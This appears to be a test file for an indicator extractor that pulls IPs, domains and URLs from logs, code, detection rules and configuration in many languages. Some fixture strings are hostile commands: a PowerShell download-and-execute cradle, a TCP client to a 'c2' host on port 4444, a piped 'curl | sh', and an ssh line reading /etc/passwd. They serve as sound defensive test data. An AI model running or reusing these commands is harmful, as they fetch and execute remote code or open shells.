import { assertFound } from './findHelpers';

describe('Finding indicators in code, rules, and configuration', () => {
  it('reads XML', () =>
    assertFound(
      [
        ['<Data Name="IpAddress">203.0.113.45</Data><Data Name="IpPort">49812</Data>', ['ip 203.0.113.45']],
        ["<Data Name='QueryName'>cdn.bad-site.info</Data>", ['domain cdn.bad-site.info']],
        [
          '<Provider Name="Microsoft-Windows-Sysmon" Guid="{5770385F-C22A-43E0-BF4C-06F5698FFBD9}"/><Data Name="Image">C:\\Windows\\System32\\svchost.exe</Data>',
          [],
        ],
        [
          '<Event xmlns="http://schemas.site-ev.com/win/2004/08/events/event">',
          ['url http://schemas.site-ev.com/win/2004/08/events/event'],
        ],
        [
          '<Data Name="DestinationHostname">ec2-192-0-2-9.compute.a-site.com</Data>',
          ['domain ec2-192-0-2-9.compute.a-site.com'],
        ],
      ],
      'xml',
    ));

  it('reads SQL', () =>
    assertFound(
      [
        [
          "INSERT INTO hosts (name, ip) VALUES ('db.site-p.com', '192.0.2.33'); -- see https://wiki.site-p.com/db",
          ['domain db.site-p.com', 'ip 192.0.2.33', 'url https://wiki.site-p.com/db'],
        ],
        ['SELECT u.id, u.name, o.info FROM users u JOIN orders.open o ON u.id = o.me', []],
        ["WHERE url LIKE '%site-q.com/%' AND host = 'a.site-q.com'", ['domain site-q.com', 'domain a.site-q.com']],
      ],
      'sql',
    ));

  it('reads PowerShell', () =>
    assertFound(
      [
        ["IEX (New-Object Net.WebClient).DownloadString('http://203.0.113.5/a.ps1')", ['url http://203.0.113.5/a.ps1']],
        ['$c = New-Object System.Net.Sockets.TCPClient("c2.site-r.net",4444)', ['domain c2.site-r.net']],
        ['[System.IO.File]::ReadAllText($env:TEMP); $obj.Name; Get-ChildItem *.ps1; Import-Module ./a.psm1', []],
        ['Invoke-WebRequest -Uri https://site-s.io/x.zip -OutFile x.zip', ['url https://site-s.io/x.zip']],
        ['Test-NetConnection -ComputerName mail.site-t.com -Port 25', ['domain mail.site-t.com']],
      ],
      'powershell',
    ));

  it('reads Go', () =>
    assertFound(
      [
        [
          'import (\n\t"net/http"\n\t"git.site-ev.com/pkg/errors"\n)\nvar h = "api.site-u.com:443" // from 192.0.2.3\n',
          ['domain git.site-ev.com', 'domain api.site-u.com', 'ip 192.0.2.3'],
        ],
        ['resp, err := http.Get("https://site-v.com/" + cfg.Name); log.Print(resp.Body)', ['url https://site-v.com/']],
        ['const x = `{"host": "in.site-w.net"}`', ['domain in.site-w.net']],
      ],
      'go',
    ));

  it('reads Rust', () =>
    assertFound(
      [
        ['let a: IpAddr = "2001:db8::7".parse().unwrap(); std::net::Ipv4Addr::new(10, 0, 0, 1);', ['ip 2001:db8::7']],
        [
          '//! See https://docs.site-x.rs/book\nuse std::io; let s = self.name.to_string();',
          ['url https://docs.site-x.rs/book'],
        ],
        ['let u = r#"http://site-y.com/"x"#; foo.bar.is', ['url http://site-y.com/']],
      ],
      'rust',
    ));

  it('reads YAML', () =>
    assertFound(
      [
        [
          'image: registry.site-z.com/team/app:1.2.3\nservices:\n  - name: docker:24.0.5-dind\nscript:\n  - curl -sSL https://get.site-z.com/install.sh | sh\n',
          ['domain registry.site-z.com', 'url https://get.site-z.com/install.sh'],
        ],
        ['uses: actions/checkout@v4\nwith:\n  go-version: 1.21.x\n  file: a.name\n', []],
        [
          'env:\n  DB_HOST: db.internal\n  API: "api.site-aa.com"\n  NO_PROXY: localhost,127.0.0.1,.site-aa.com\n',
          ['domain db.internal', 'domain api.site-aa.com', 'ip 127.0.0.1', 'domain site-aa.com'],
        ],
        [
          'apiVersion: networking.k8s.io/v1\nkind: Ingress\nmetadata:\n  annotations:\n    cert-manager.io/cluster-issuer: x\nspec:\n  rules:\n    - host: shop.site-bb.com\n',
          ['domain shop.site-bb.com'],
        ],
        [
          "title: X\ndetection:\n  selection:\n    DestinationHostname|endswith:\n      - \".site-hh.com\"\n      - '.site-ii.top'\n    Image|endswith: '\\rundll32.exe'\n",
          ['domain site-hh.com', 'domain site-ii.top'],
        ],
        [
          '    QueryName|contains: "site-jj[.]xyz"\n    c-uri|startswith: "/wp-content/a.php"\n',
          ['domain site-jj.xyz'],
        ],
        ['    DestinationIp|cidr:\n      - 10.0.0.0/8\n      - "198.51.100.14"\n', ['ip 198.51.100.14']],
      ],
      'yaml',
    ));

  it('reads Dockerfile', () =>
    assertFound(
      [
        [
          'FROM images.site-ev.io/library/node:20 AS build\nRUN apt-get install -y libfoo=1.2.3.4-1 && wget http://198.51.100.9/x.tar.gz\nENV HOST=app.site-cc.com\n',
          ['url http://198.51.100.9/x.tar.gz', 'domain app.site-cc.com'],
        ],
        ['COPY --from=build /app/dist/main.js ./main.js\nCMD ["node", "main.js"]', []],
      ],
      'dockerfile',
    ));

  it('reads JavaScript', () =>
    assertFound(
      [
        [
          '!function(e,t){e.id=t.name,e.in=t.is;var n=t.map((function(r){return r.link}));fetch("https://site-ee.com/c.js?i="+n.info)}(window,a.to)',
          ['url https://site-ee.com/c.js?i='],
        ],
        [
          'var h=["site-ff.com","cdn.site-ff.net"],a="M10.5.2.1L3.4.5.6z",b=t.co?n.me:r.it',
          ['domain site-ff.com', 'domain cdn.site-ff.net'],
        ],
        ['s.src="//static.site-gg.com/x.js"', ['domain static.site-gg.com']],
      ],
      'javascript',
    ));

  it('reads YARA', () =>
    assertFound(
      [
        [
          'rule x { meta: hash = "d41d8cd98f00b204e9800998ecf8427e" strings: $a = "http://site-kk.com/gate.php" ascii $b = "ns1.site-kk.com" wide $c = /site-ll\\.com\\/[a-z]+/ condition: pe.is_dll() and any of them }',
          ['url http://site-kk.com/gate.php', 'domain ns1.site-kk.com', 'domain site-ll.com'],
        ],
        ['import "pe"\nrule y { condition: pe.sections[0].name == ".text" and math.entropy(0, filesize) > 7 }', []],
      ],
      'yara',
    ));

  it('reads HTML', () =>
    assertFound(
      [
        ['<a href=3D"https://site-vv.com/x?a=3D1&amp;b=3D2">Pay</a>', ['url https://site-vv.com/x?a=1&b=2']],
        [
          '<a href="https://site-ww.com/r?u=https%3A%2F%2Fsite-xx.com%2F">site-ww.com</a><img src=cid:a@b.c>',
          ['url https://site-ww.com/r?u=https%3A%2F%2Fsite-xx.com%2F', 'domain site-ww.com'],
        ],
        ['<td style="font:12px/1.5 Arial">Visit&nbsp;www.site-yy.com&nbsp;now</td>', ['domain www.site-yy.com']],
      ],
      'html',
    ));

  it('reads Python', () =>
    assertFound(
      [
        [
          'requests.get(f"https://{host}/x"); s = "smtp.site-ao.com"; import os.path; df.to_csv(x.name); u = "evil[.]site-ao[.]com"',
          ['domain smtp.site-ao.com', 'domain evil.site-ao.com'],
        ],
      ],
      'python',
    ));

  it('reads shell scripts', () =>
    assertFound(
      [
        [
          'ssh -p 2222 root@203.0.113.12 "cat /etc/passwd" && scp a.sh bob@files.site-ap.org:/tmp && ping -c1 site-aq.com',
          ['ip 203.0.113.12', 'domain files.site-ap.org', 'domain site-aq.com'],
        ],
      ],
      'shellscript',
    ));

  it('reads INI', () =>
    assertFound(
      [
        [
          '[remote "origin"]\n\turl = git@git.site-ar.com:team/app.git\n[http]\n\tproxy = http://user:pass@proxy.site-ar.com:3128\n',
          ['domain git.site-ar.com', 'url http://user:pass@proxy.site-ar.com:3128'],
        ],
      ],
      'ini',
    ));

  it('reads TOML', () =>
    assertFound(
      [
        [
          '[tool.poetry.dependencies]\npython = "^3.11"\nhost = "10.0.0.5"\nhomepage = "https://site-as.dev"\n',
          ['ip 10.0.0.5', 'url https://site-as.dev'],
        ],
      ],
      'toml',
    ));

  it('reads Terraform', () =>
    assertFound(
      [
        [
          'resource "aws_instance" "a" { ami = data.aws_ami.x.id }\nzone = "site-at.com."\nrecords = ["198.51.100.66"]',
          ['domain site-at.com', 'ip 198.51.100.66'],
        ],
      ],
      'terraform',
    ));

  it('reads properties files', () =>
    assertFound(
      [
        [
          'spring.datasource.url=jdbc:postgresql://db.site-au.com:5432/app\nlogging.level.org.hibernate=INFO',
          ['domain db.site-au.com'],
        ],
      ],
      'properties',
    ));

  it('reads nginx configuration', () =>
    assertFound(
      [
        [
          'server_name shop.site-av.com www.site-av.com;\nproxy_pass http://10.0.0.8:3000/;\ninclude mime.types;',
          ['domain shop.site-av.com', 'domain www.site-av.com', 'url http://10.0.0.8:3000/'],
        ],
      ],
      'nginx',
    ));
});
